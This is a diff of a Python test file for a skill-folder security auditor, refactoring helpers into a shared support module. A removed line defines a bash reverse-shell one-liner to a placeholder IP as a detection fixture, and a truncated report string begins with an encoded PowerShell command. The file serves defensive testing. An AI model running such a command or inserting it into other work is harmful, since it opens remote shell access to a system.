@@ -11,29 +11,13 @@ from pathlib import Path
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from skillyard.audit import Auditor
 from skillyard.audit.datablock import detection_item, output_block
-
-SHELL = "bash -i >& /dev/tcp/192.0.2.10/4444 0>&1"
+from support.audit_folder import SHELL, audit_files, skill
 
 
 def audit(tmp_path: Path, files: dict[str, str], description: str = "Helps with the build."
           ) -> tuple[str, set[str]]:
-    folder = tmp_path / "s"
-    for rel, text in files.items():
-        target = folder / rel
-        target.parent.mkdir(parents=True, exist_ok=True)
-        target.write_text(text)
-    if "SKILL.md" not in files:
-        (folder / "SKILL.md").write_text(f"---\nname: s\ndescription: {description}\n---\n\n"
-                                         "# S\n\nRun the scripts.\n")
-    result = Auditor().run_paths([str(folder)])[0]
-    return result.verdict, {f.rule for f in result.findings if f.severity in ("high",
-                                                                             "critical")}
-
-
-def skill(body: str, description: str = "Helps with the build.") -> str:
-    return f"---\nname: s\ndescription: {description}\n---\n\n{body}"
+    return audit_files(tmp_path, files, description, default_body="# S\n\nRun the scripts.\n")
 
 
 REPORT = ("```\nREPORT\nPID 4012: powershell.exe -enc "
